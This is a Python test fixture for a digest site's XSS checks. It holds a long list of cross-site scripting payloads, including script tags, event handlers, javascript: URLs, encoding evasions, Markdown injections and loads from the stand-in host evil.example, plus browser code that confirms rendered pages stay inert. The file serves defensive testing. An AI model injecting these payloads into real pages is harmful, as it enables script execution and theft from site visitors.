"""Texts that try to become markup, a day that says them everywhere, its outputs as readers open them, and a watch.

For tests/browser and benchmarks/xss.py. The texts are our own.
"""

from __future__ import annotations

import dataclasses
import re
import sys
from collections.abc import Callable, Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

from lxml import etree
from markdown_it import MarkdownIt

sys.path.append(str(Path(__file__).parent / "render"))

from all_feeds import feed_files
from sample_day import DAY, PAIRED, REPAIRED, fact, glossed, guessed, line, pair

from digest.model import Abstract, Both, Digest, Failure, Listed, Verdict
from digest.recorded import digest_of
from digest.render import archive, page
from digest.render.archived import day_of
from digest.render.mail import letter
from digest.render.masthead import Masthead
from digest.render.site import json_text

Watched = dict[str, Any]

LARGE = 50_000_000  # bytes: nothing of a mail gives way
DO = "owned=1"
# Ways into a page, each of which would set `owned`, ask for an address, or open a dialog.
PAYLOADS = (
    f"<script>{DO}</script>",
    f"<ScRiPt >{DO}</sCrIpT>",
    f"<script/x>{DO}</script>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"</title><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</bdi></div></td></table><script>{DO}</script>",
    f"<!--><script>{DO}</script>-->",
    f"--><script>{DO}</script><!--",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"<![endif]--><script>{DO}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    f"<img src=x onerror={DO}>",
    f"<img/src=x/onerror={DO}>",
    f'<img src="x" onerror="{DO}"',
    f"<img src='x' onerror='{DO}'>",
    f"<IMG SRC=x OnErRoR={DO}>",
    "<img src=x onerror=&#111;wned&#61;1>",
    f"<image src=x onerror={DO}>",
    f"<img srcset='https://evil.example/a 1x' onerror={DO}>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    f"<svg onload={DO}>",
    f"<svg/onload={DO}//",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{DO}><text>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={DO}></mtext></math>",
    f"<body onload={DO}>",
    "<body background=https://evil.example/a.png>",
    "<table background=https://evil.example/a.png>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}>",
    f"<details open ontoggle={DO}>x",
    f"<video><source onerror={DO}></video>",
    "<video poster=https://evil.example/a.png>",
    f"<audio src=x onerror={DO}>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<iframe src=javascript:parent.{DO}></iframe>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data=javascript:{DO}></object>",
    "<object data=https://evil.example/a.swf></object>",
    "<embed src=https://evil.example/a.swf>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/a>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>body{background:url(https://evil.example/a.png)}</style>",
    "<style>*{display:none!important}</style>",
    "<div style=\"background:url('https://evil.example/a.png')\">x</div>",
    '" style="background:url(https://evil.example/a.png)',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    f'" onmouseover="{DO}" autofocus onfocus="{DO}" x="',
    f"' onmouseover='{DO}' autofocus onfocus='{DO}' x='",
    f"`onmouseover=`{DO}",
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f"java\tscript:{DO}",
    f" javascript:{DO}",
    f"\x01javascript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    f"vbscript:{DO}",
    f'https://a.example/" onclick="{DO}',
    f"https://a.example/'><script>{DO}</script>",
    "https://a.example/x url(https://evil.example/a.png)",
    f"{{{{ 7*7 }}}}<script>{DO}</script>",
    f"{{% raw %}}<script>{DO}</script>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;",
    f"\u202e<script>{DO}</script>",
    f"<\x00script>{DO}</script>",
    f"\ufeff<script>{DO}</script>",
    f"＜script＞{DO}＜/script＞",
    f"<xss id=x tabindex=1 autofocus onfocus={DO}>",
    f"<a href=x onclick={DO} autofocus onfocus={DO}>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=owned=1>'>",
    f"<template><script>{DO}</script></template>",
    # more ways to name the same thing to a browser
    f"<a href=javascript&colon;{DO}>x</a>",
    f"<a href='java&Tab;script:{DO}'>x</a>",
    f"<a href='&#x6A;avascript&#58;{DO}'>x</a>",
    f"<a href='\x19javascript:{DO}'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+'>x</a>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={DO}/>#x'></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{DO}</script>'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={DO}></style></svg>",
    f"<svg></p><style><a title='</style><img src=x onerror={DO}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={DO}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={DO}>",
    f"<math href=javascript:{DO}>x</math>",
    f"<div style='width:expression({DO});-moz-binding:url(https://evil.example/x.xml)'>x</div>",
    f"<button formaction=javascript:{DO} autofocus>x</button>",
    f"<isindex type=image src=x onerror={DO}>",
    f"<object type=text/html data='data:text/html,<script>{DO}</script>'></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<frameset onload={DO}>",
    f"<body onpageshow={DO} onscroll={DO}>",
    f"<p style=animation-name:x onanimationstart={DO}>x<style>@keyframes x{{}}</style>",
    f"<img src=x:x onerror=\"{DO}\"//",
    f"<<script>{DO}//<</script>",
    f"<script>`${{{DO}}}`</script>",
    f"<script\x0c>{DO}</script>",
    "<script>\\u006fwned=1</script>",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"&amp;lt;script&amp;gt;{DO}&amp;lt;/script&amp;gt;",
    f"+ADw-script+AD4-{DO}+ADw-/script+AD4-",
    "\\u003cscript\\u003eowned=1\\u003c/script\\u003e",
    f"<!--[if gte IE 4]><script>{DO}</script><![endif]-->",
    f"<!-- --!><script>{DO}</script>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{DO}</script>",
    f"]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{DO}</script>",
    # what Markdown makes markup of
    f"[x](javascript:{DO})",
    f"[x](<javascript:{DO}>)",
    f"[x](java&#115;cript:{DO})",
    f"[x]: javascript:{DO}",
    "![x](https://evil.example/a.png)",
    f"![x\"onerror=\"{DO}](x)",
    f"<javascript:{DO}>",
    f"<https://a.example/\"onclick={DO}>",
    f"```\n<script>{DO}</script>\n```\n<script>{DO}</script>",
    f"    <script>{DO}</script>",
    f"`<img src=x onerror={DO}>` ``<img src=x onerror={DO}>",
    f"\\<script>{DO}</script>\\",
    f"| a | <script>{DO}</script> |\n|---|---|\n",
    f"[^1]: <script>{DO}</script>",
    f"</p>\n\n<script>{DO}</script>\n\n<p>",
    f"\n\n<div>\n<script>{DO}</script>\n</div>\n\n",
)  # fmt: skip


def hostile(number: int, text: str) -> Abstract:
    """Make a post that says one text wherever a post can say anything."""
    name, both = f"x{number}", Both(text, text)
    verdict = Verdict(0.5, False, None, (text, f"numbers:{text}"))
    zh, en = glossed(line(text, "zh", text), (text, text)), guessed(line(text, "en"), (text[0], 0.5, text))
    lines = (pair(number, zh, en, verdict, "machine"), pair(number, dataclasses.replace(zh, lang=text), None))
    elsewhere = Listed(name, both, both, text, PAIRED.published, "same", name, DAY.day)
    return dataclasses.replace(
        REPAIRED,
        id=text, title=both, title_langs=both, url=both, source=text, lang=text, credits=(text,), notes=(text,),
        genre=text, pairs=lines, outline=lines, title_made=dataclasses.replace(lines[0], engine=text), terms=(both,),
        card=(fact(text, text, text), fact("paper", text, text), dataclasses.replace(fact("code", text), value=both)),
        also=(elsewhere, dataclasses.replace(elsewhere, why="comparable")), rank=((text, 1.0), (f"topic:{text}", 1.0)),
        published=PAIRED.published + timedelta(minutes=number),
    )  # fmt: skip


def hostile_day(order: tuple[str, str] = ("zh", "en"), texts: Sequence[str] = PAYLOADS) -> Digest:
    """Make a day of one such post a text, in all its sections, and say each at the day's head and foot too."""
    posts = tuple(hostile(number, text) for number, text in enumerate(texts))
    told = "".join(texts)
    return dataclasses.replace(
        DAY,
        title=told,
        order=order,
        abstracts=(*posts, *(dataclasses.replace(each, status="late") for each in posts[:5])),
        newly=posts[:10],
        rest=tuple(listed for each in posts for listed in each.also[:1]),
        failures=tuple(Failure(text, text, text) for text in texts),
        quality=tuple((text, 1) for text in texts),
        refused=tuple((text, 1) for text in texts),
        credits=tuple(texts),
        offer=Both(told, told),
        signature=told,
    )


# ---- outputs, as those who read them open them -----------------------------------------------------------------------

HEAD = "<!doctype html><meta charset=utf-8><body>"
_POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


def page_html(digest: Digest) -> str:
    """Give the page without its policy: what it says is inert by itself, and the policy is a second wall."""
    found, count = _POLICY.subn("", page.html(digest))
    assert count == 1
    return found


def index_html(digest: Digest) -> str:
    assert day_of(json_text(digest))
    return _POLICY.sub("", archive.index_html([json_text(digest)], Masthead(digest.title, "", digest.order)))


def feed_html(digest: Digest) -> str:
    """Give all contents of the Atom feeds as a reader shows them that trusts them: put into a page as they are."""
    feeds = dict(feed_files([json_text(digest)], title=digest.title, link="", order=digest.order))
    trees = [etree.fromstring(feeds[name].encode()) for name in ("feed.xml", "days.xml")]
    contents = [content for tree in trees for content in tree.findall(".//{*}content/{*}div")]
    assert contents
    return HEAD + "".join(etree.tostring(each, method="html", encoding="unicode") for each in contents)


def mail_html(digest: Digest) -> str:
    return letter(digest_of(json_text(digest), "a hostile day"), limit=LARGE).html


def markdown_html(digest: Digest) -> str:
    """Give the Markdown page as a site shows it that lets through HTML and every address."""
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    reader.validateLink = lambda url: True  # type: ignore[method-assign]
    return HEAD + reader.render(page.markdown(digest))


OUTPUTS: dict[str, Callable[[Digest], str]] = {
    "page": page_html, "feed": feed_html, "mail": mail_html, "markdown": markdown_html,
}  # fmt: skip


# ---- the watch -------------------------------------------------------------------------------------------------------

# Every element with the names of its attributes, and where links lead by their scheme.
_SHAPE = """
[...new Set([...document.querySelectorAll('*')].flatMap(e => [
  e.localName,
  ...[...e.attributes].map(a => e.localName + ' ' + a.name +
    (a.name == 'style' && /url|@import|expression/i.test(a.value) ? ' loads' : '')),
  ...(e.localName == 'a' && e.href && !/^(https?:|mailto:|file:)$/.test(e.protocol) ? [e.protocol] : []),
  ...(e.hasAttribute('http-equiv') ? [e.getAttribute('http-equiv')] : []),
]))]
"""
_WAIT = "new Promise(done => setTimeout(done, 300))"  # for what happens after the page has loaded
_STIR = """
document.querySelectorAll('a').forEach(e => e.focus());
document.querySelectorAll('details').forEach(e => e.open = true);
document.querySelectorAll('*').forEach(e => ['mouseover', 'mouseenter', 'focus', 'scroll'].forEach(
  name => e.dispatchEvent(new Event(name))));
"""


def shape(tab: Any) -> set[str]:
    """Give the elements of a page, their attributes and the odd schemes of its links: what its markup is made of."""
    return set(tab.run(_SHAPE))


def watched(tab: Any, known: set[str]) -> Watched:
    """Say all that a page did or could do: nothing where it is inert. `known` is the shape of our own markup."""
    start = tab.run("location.href")
    tab.ask("Runtime.evaluate", expression=_WAIT, awaitPromise=True)
    strange = shape(tab) - known
    tab.run(_STIR)
    found = {
        "dialogs": len(tab.seen("Page.javascriptDialogOpening")),
        "requests": [url for url in tab.requests()[1:] if url != "data:,"],
        "frames": [e["frame"]["url"] for e in tab.seen("Page.frameNavigated")][1:],
        "complaints": tab.complaints(),
        "strange": sorted(strange, key=str),  # a form may hide its own names
        "owned": tab.run("typeof owned") != "undefined",
        "moved": tab.run("location.href") != start,
    }
    return {name: value for name, value in found.items() if value}
